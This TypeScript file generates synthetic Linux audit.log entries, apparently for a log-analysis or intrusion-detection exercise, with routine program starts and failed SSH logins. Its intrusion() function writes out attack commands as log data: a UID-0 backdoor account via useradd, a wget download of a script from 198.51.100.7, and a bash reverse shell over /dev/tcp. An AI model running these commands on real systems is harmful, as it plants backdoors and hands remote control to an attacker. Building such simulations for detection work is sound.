import { intruder, type LineSource } from "./line-source.ts";
import { addressAt, type Random } from "./random.ts";

const programs = [
  ["/usr/bin/ls", "ls", "-la", "/srv/app"],
  ["/usr/bin/grep", "grep", "-r", "timeout", "/etc/nginx"],
  ["/usr/bin/date", "date", "+%s"],
  ["/usr/bin/systemctl", "systemctl", "is-active", "nginx"],
  ["/usr/bin/python3.11", "python3", "/opt/agent/collect.py", "--interval", "60"],
] as const;

/** `audit.log` of a server with rules on program starts. */
export function auditLines(random: Random): LineSource {
  let serial = 1000;
  const head = (type: string, at: number): string =>
    `type=${type} msg=audit(${Math.floor(at)}.${String(random.below(1000)).padStart(3, "0")}:${serial}):`;
  const start = (at: number, lines: string[], argv: readonly string[], uid: number): void => {
    serial++;
    const [path = "", name = "", ...rest] = argv;
    const pid = 2000 + random.below(60_000);
    const mark = head("SYSCALL", at);
    const same = mark.slice(mark.indexOf("msg="));
    lines.push(
      `${mark} arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=8 items=2 ppid=${pid - 1} pid=${pid} auid=1001 uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid} tty=pts0 ses=4 comm="${name}" exe="${path}" subj=unconfined key="exec"`,
      `type=EXECVE ${same} argc=${rest.length + 1} ${[name, ...rest].map((one, at2) => `a${at2}="${one}"`).join(" ")}`,
      `type=CWD ${same} cwd="/home/deploy"`,
      `type=PATH ${same} item=0 name="${path}" inode=${1000 + random.below(90_000)} dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
      `type=PROCTITLE ${same} proctitle=${Buffer.from([name, ...rest].join("\0"))
        .toString("hex")
        .toUpperCase()}`,
    );
  };
  const logIn = (at: number, lines: string[], address: string, good: boolean): void => {
    serial++;
    const result = good ? "success" : "failed";
    lines.push(
      `${head("USER_LOGIN", at)} pid=${2000 + random.below(60_000)} uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=${address} terminal=ssh res=${result}'`,
    );
  };
  return {
    file: "audit.log",
    ordinary(at, lines) {
      if (random.unit() < 0.35) logIn(at, lines, addressAt(random.skewed(9000)), false);
      else start(at, lines, random.pick(programs), 1001);
    },
    intrusion(at, lines) {
      logIn(at + 181, lines, intruder.address, true);
      start(at + 200, lines, ["/usr/sbin/useradd", "useradd", "-o", "-u", "0", "-m", intruder.newAccount], 0);
      start(at + 320, lines, ["/usr/bin/wget", "wget", "http://198.51.100.7/x.sh", "-O", "/tmp/.x"], 33);
      start(at + 325, lines, ["/usr/bin/bash", "bash", "-i", "/dev/tcp/198.51.100.7/4444"], 33);
    },
  };
}
